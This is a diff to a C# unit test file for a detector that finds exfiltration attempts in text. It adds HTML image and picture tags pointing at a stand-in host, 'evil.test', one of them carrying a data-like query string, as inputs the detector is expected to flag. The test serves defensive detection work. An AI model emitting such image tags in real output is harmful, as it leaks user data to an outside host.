@@ -238,6 +238,20 @@ public class ExfilTests
     [InlineData("Wrap it in an <a> element; a <form> posts to its action.")]
     public void An_html_link_or_form_to_an_allowed_or_relative_destination_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
 
+    /// <summary>
+    /// Images the <c>&lt;img</c> patterns found, which the tag reader alone reads now: lazy-loaded sources
+    /// (<c>data-src</c>, <c>data-srcset</c>), a slash before the attributes, a tag the text ends in, a picture's source.
+    /// </summary>
+    [Theory]
+    [InlineData("<img data-src=\"//evil.test/p.png\">")]
+    [InlineData("<img class=lazyload data-srcset=\"/a.png 1x, https://evil.test/b.png 2x\">")]
+    [InlineData("<img/src=https://evil.test/p.png>")]
+    [InlineData("Here it is: <IMG SRC=https://evil.test/p.png")]
+    [InlineData("<picture><source media=\"(min-width: 1px)\" srcset=\"https://evil.test/b.webp 1x\"></picture>")]
+    [InlineData("<img src=\"https://evil.test/p.png?d=abcdefghijklmnopqrstuvwxyz012345\">")]
+    public void Images_are_read_by_the_tag_reader(string text) =>
+        Assert.Equal(("html_image", 0.95), Assert.Single(Exfil.Find(text, Allowed)) is var m ? (m.Label, m.Score) : default);
+
     private const string Long =
         "a long description of the picture, repeated to run past what the image patterns read before its source. "
         + "a long description of the picture, repeated to run past what the image patterns read before its source. "
